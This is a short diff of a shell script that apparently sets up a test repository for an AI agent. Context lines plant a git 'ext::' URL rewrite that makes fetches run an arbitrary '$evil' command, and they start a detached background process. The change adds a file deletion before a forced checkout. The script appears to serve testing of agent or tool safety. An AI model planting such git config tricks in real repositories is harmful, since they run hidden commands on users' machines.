@@ -67,7 +67,7 @@ git config url."ext::$evil %S".insteadOf "$here/remote.git"
 setsid sleep 300 &
 
 # The planted programs do work: they run for the agent itself.
-git add src/app.txt && git status >/dev/null && git checkout --quiet --force HEAD
+git add src/app.txt && git status >/dev/null && rm src/app.txt && git checkout --quiet --force HEAD
 echo mended >src/app.txt
 git commit --quiet --allow-empty --message 'through the hooks' </dev/null
 git config commit.gpgSign true
